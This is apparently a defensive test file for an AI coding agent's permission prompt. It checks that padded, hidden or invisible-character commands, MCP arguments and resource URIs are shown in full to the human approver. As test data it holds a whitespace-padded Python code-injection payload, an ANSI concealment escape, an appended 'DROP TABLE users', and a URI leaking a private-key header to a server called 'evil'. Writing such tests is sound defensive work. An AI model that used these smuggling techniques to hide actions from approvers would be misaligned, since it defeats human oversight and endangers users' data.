"""What the REPL's permission question shows (issue 18, finding 8 and the question part of finding 5): a command
or argument list is never cut silently — short, it is shown whole; long, its head and tail around a marker saying
how much is not shown and that "v" shows it (`whole=True`); control and bidi characters show as escapes; a resource
read names the server and the whole URI it sends. Exact lines."""

from __future__ import annotations

import json
from pathlib import Path

from mini_claude.cli.questions.permission import MAX_DIFF_LINES, MAX_SHOWN_CHARS, describe_call

PAYLOAD = ";__import__('os').system('touch PWNED')"


def test_a_short_command_is_shown_whole_with_its_controls_visible(tmp_path: Path) -> None:
    assert describe_call("Bash", {"command": "git status\u202e #\x1b[8m hidden\nls"}, tmp_path) == [
        "Run a shell command: git status\\u202e #\\x1b[8m hidden", "  │ ls"]


def test_a_padded_command_shows_its_tail_and_says_what_is_not_shown(tmp_path: Path) -> None:
    command = 'python3 -c "print(1)' + " " * 3000 + PAYLOAD + '"'
    lines = describe_call("Bash", {"command": command}, tmp_path)
    assert len(lines) == 3
    assert lines[0].startswith('Run a shell command: python3 -c "print(1)')
    assert lines[1] == ("  [… 1,260 more characters (0 not blank) not shown here — answer v to see the whole "
                        "text …]")
    assert lines[2].endswith(PAYLOAD + '"')  # the old question cut at 600 characters: this was never seen
    assert describe_call("Bash", {"command": command}, tmp_path, whole=True) == [f"Run a shell command: {command}"]


def test_a_payload_in_the_middle_is_announced_by_the_marker(tmp_path: Path) -> None:
    command = "echo start" + " " * 1500 + PAYLOAD + "\n" * 50 + "echo end"
    lines = describe_call("Bash", {"command": command}, tmp_path)
    assert PAYLOAD not in "\n".join(lines)
    assert "more characters (38 not blank, 39 line breaks) not shown here — answer v" in "\n".join(lines)
    assert lines[-1] == "  │ echo end"
    whole = describe_call("Bash", {"command": command}, tmp_path, whole=True)
    assert "\n".join(whole) == "Run a shell command: " + command.replace("\n", "\n  │ ")


def test_mcp_and_other_arguments_are_shown_whole_up_to_the_limit_then_marked(tmp_path: Path) -> None:
    args = {"query": "x" * 1000, "then": "DROP TABLE users"}  # the old question cut MCP arguments at 300
    assert describe_call("mcp__db__query", args, tmp_path) == [
        f"Call mcp__db__query (MCP server db) with {json.dumps(args)}"]
    long = {"query": "y" * MAX_SHOWN_CHARS, "then": "DROP TABLE users"}
    lines = describe_call("mcp__db__query", long, tmp_path)
    assert lines[1].startswith("  [… ") and lines[1].endswith("not shown here — answer v to see the whole text …]")
    assert lines[2].endswith('"then": "DROP TABLE users"}')
    assert describe_call("mcp__db__query", long, tmp_path, whole=True) == [
        f"Call mcp__db__query (MCP server db) with {json.dumps(long)}"]
    assert describe_call("some_tool", {"a": "\u202e\x9b"}, tmp_path) == ['Use some_tool with {"a": "\\u202e\\u009b"}']


def test_a_long_diff_says_v_shows_the_rest(tmp_path: Path) -> None:
    content = "".join(f"line {i}\n" for i in range(100))
    lines = describe_call("Write", {"file_path": "new.txt", "content": content}, tmp_path)
    assert lines[0] == "Create new.txt (100 lines)"
    assert lines[-1] == f"  … ({103 - MAX_DIFF_LINES} more diff lines not shown — answer v to see them)"
    whole = describe_call("Write", {"file_path": "new.txt", "content": content}, tmp_path, whole=True)
    assert whole[-1] == "  +line 99" and len(whole) == 1 + 103


def test_resource_tools_name_the_server_and_the_whole_uri_sent(tmp_path: Path) -> None:
    secret = "k=" + "A" * 3000 + "&ssh=-----BEGIN OPENSSH PRIVATE KEY-----"
    lines = describe_call("ReadMcpResourceTool", {"server": "evil", "uri": f"docs://x?{secret}"}, tmp_path)
    assert lines[0].startswith("Read the resource docs://x?k=AAAA")
    assert lines[1].startswith("  [… ") and "answer v to see the whole text" in lines[1]
    assert lines[2].endswith("&ssh=-----BEGIN OPENSSH PRIVATE KEY----- from MCP server evil (the server receives "
                             "this URI)")
    whole = describe_call("ReadMcpResourceTool", {"server": "evil", "uri": f"docs://x?{secret}"}, tmp_path,
                          whole=True)
    assert whole == [f"Read the resource docs://x?{secret} from MCP server evil (the server receives this URI)"]
    assert describe_call("ReadMcpResourceTool", {"server": "docs\u202e", "uri": "docs://a\nb"}, tmp_path) == [
        "Read the resource docs://a", "  │ b from MCP server docs\\u202e (the server receives this URI)"]
    assert describe_call("ListMcpResourcesTool", {"server": "evil"}, tmp_path) == [
        "List the resources of MCP server evil"]
    assert describe_call("ListMcpResourcesTool", {}, tmp_path) == ["List the resources of every connected MCP server"]


def test_the_sampling_question_says_what_it_leaves_out() -> None:
    """The REPL's "let the model answer?" shows a server's request cut to a few hundred characters a message and
    the last six messages: each cut says how much is not shown."""
    from mini_claude.cli.questions.host_ui import sampling_summary
    from mini_claude.mcp.host.ui import SamplingRequest

    message = {"role": "user", "content": {"type": "text", "text": "x" * 500 + "\u202e"}}
    lines = sampling_summary(SamplingRequest("srv", "", [message] * 8, 9))
    assert lines[:2] == ["MCP server 'srv' asks the model to answer (up to 9 tokens):",
                         "  (… 2 earlier messages not shown)"]
    assert lines[2] == "  user: " + "x" * 400 + "… (+100 characters)" and len(lines) == 8


def test_invisible_characters_in_a_command_are_shown(tmp_path: Path) -> None:
    # the text approved is, character for character, the text that runs (security review of issue 21)
    for invisible in ("\u200d", "\u200c", "\u00ad", "\ufe0f", "\u3164", "\U000e0100"):
        [line] = describe_call("Bash", {"command": f"ls{invisible} -la"}, tmp_path)
        assert invisible not in line and "\\" in line, (repr(invisible), line)
